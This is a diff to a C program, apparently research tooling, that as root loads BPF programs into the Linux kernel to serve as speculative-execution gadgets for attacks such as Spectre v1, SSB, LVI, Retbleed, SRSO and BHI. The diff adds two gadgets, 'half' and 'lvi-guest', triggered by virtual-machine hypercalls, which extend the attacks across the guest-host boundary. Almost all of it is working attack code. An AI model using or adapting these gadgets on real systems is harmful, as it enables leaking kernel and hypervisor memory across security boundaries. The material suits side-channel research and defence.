@@ -2,7 +2,7 @@
  * Set-up program: code in the kernel that an attack needs. Each is a BPF program as root may load
  * it; the kernel does not harden programs of root against speculation.
  *
- *   gadgets spectre-v1 | ssb | lvi | spectre-v2 | retbleed | srso | bhi
+ *   gadgets spectre-v1 | half | ssb | lvi | lvi-guest | spectre-v2 | retbleed | srso | bhi
  *
  * Prints options for the attack, among them the socket that gives clients a mapping of the array
  * that the gadgets count in (--gadget), where the kernel has that array (--table, --known) and, for
@@ -68,6 +68,17 @@ enum { COUNT_BYTE_LENGTH = 13 };
 	COUNT_BYTE
 enum { READ_TABLE_LENGTH = 6 + COUNT_BYTE_LENGTH };
 
+/* Counts the byte of the table at the index that user memory has where R3 points, if it is there. */
+#define READ_TABLE_AT_USERS_INDEX                         \
+	READ_LIMIT,                                       \
+	MOVE(BPF_REG_1, BPF_REG_10),                      \
+	ADD_IMM(BPF_REG_1, -16),                          \
+	MOVE_IMM(BPF_REG_2, 8),                           \
+	CALL(BPF_FUNC_probe_read_user),                   \
+	JUMP_NOT_EQUAL_IMM(BPF_REG_0, 0, 1 + READ_TABLE_LENGTH), \
+	LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),         \
+	READ_TABLE
+
 /* Lets packets to a socket run a program, which ends by dropping them. */
 static void attach_filter(int program)
 {
@@ -125,6 +136,27 @@ static void load_ssb(void)
 	attach_filter(load_program(BPF_PROG_TYPE_SOCKET_FILTER, program, LENGTH(program)));
 }
 
+/*
+ * Half a gadget: where a virtual machine makes a hypercall, reads the table at the index that is its
+ * first argument, and does nothing with what it reads.
+ */
+static void load_half(void)
+{
+	const struct bpf_insn program[] = {
+		LOAD(BPF_DW, BPF_REG_7, BPF_REG_1, 8),
+		READ_LIMIT,
+		AND(BPF_REG_8, BPF_REG_7),
+		JUMP_NOT_EQUAL(BPF_REG_8, BPF_REG_7, 4),
+		MAP_ADDRESS(BPF_REG_3, shared, SHARED_TABLE),
+		ADD(BPF_REG_3, BPF_REG_7),
+		LOAD(BPF_B, BPF_REG_0, BPF_REG_3, 0),
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+
+	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "kvm_hypercall");
+}
+
 /* At the begin of getsid, reads an index where the caller's first argument points, and the table. */
 static void load_lvi(void)
 {
@@ -138,19 +170,25 @@ static void load_lvi(void)
 		MOVE_IMM(BPF_REG_2, 8),
 		CALL(BPF_FUNC_probe_read_kernel),
 		LOAD(BPF_DW, BPF_REG_3, BPF_REG_10, -8),
-		READ_LIMIT,
-		MOVE(BPF_REG_1, BPF_REG_10),
-		ADD_IMM(BPF_REG_1, -16),
-		MOVE_IMM(BPF_REG_2, 8),
-		CALL(BPF_FUNC_probe_read_user),
-		JUMP_NOT_EQUAL_IMM(BPF_REG_0, 0, 1 + READ_TABLE_LENGTH),
-		LOAD(BPF_DW, BPF_REG_7, BPF_REG_10, -16),
-		READ_TABLE,
+		READ_TABLE_AT_USERS_INDEX,
 		MOVE_IMM(BPF_REG_0, 0),
 		EXIT(),
 	};
 
 	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "sys_enter");
+}
+
+/* The same where a virtual machine makes a hypercall, whose first argument points into its monitor's memory. */
+static void load_lvi_of_guests(void)
+{
+	const struct bpf_insn program[] = {
+		LOAD(BPF_DW, BPF_REG_3, BPF_REG_1, 8),
+		READ_TABLE_AT_USERS_INDEX,
+		MOVE_IMM(BPF_REG_0, 0),
+		EXIT(),
+	};
+
+	attach_tracepoint(load_program(BPF_PROG_TYPE_RAW_TRACEPOINT, program, LENGTH(program)), "kvm_hypercall");
 }
 
 /*
@@ -302,10 +340,14 @@ int main(int argc, char **argv)
 	printf("--gadget %s --table %#lx --known %#lx", descriptor_socket, address + SHARED_TABLE, address + SHARED_KNOWN);
 	if (!strcmp(attack, "spectre-v1")) {
 		load_spectre_v1();
+	} else if (!strcmp(attack, "half")) {
+		load_half();
 	} else if (!strcmp(attack, "ssb")) {
 		load_ssb();
 	} else if (!strcmp(attack, "lvi")) {
 		load_lvi();
+	} else if (!strcmp(attack, "lvi-guest")) {
+		load_lvi_of_guests();
 	} else if (!strcmp(attack, "spectre-v2")) {
 		load_disclosures();
 		print_branches(1, ioctl_functions, 0);
@@ -321,7 +363,7 @@ int main(int argc, char **argv)
 		load_bhi();
 		print_branches(1, trace_functions, 0);
 	} else {
-		errx(2, "usage: gadgets spectre-v1 | ssb | lvi | spectre-v2 | retbleed | srso | bhi");
+		errx(2, "usage: gadgets spectre-v1 | half | ssb | lvi | lvi-guest | spectre-v2 | retbleed | srso | bhi");
 	}
 	to_background();
 	serve(socket, shared);
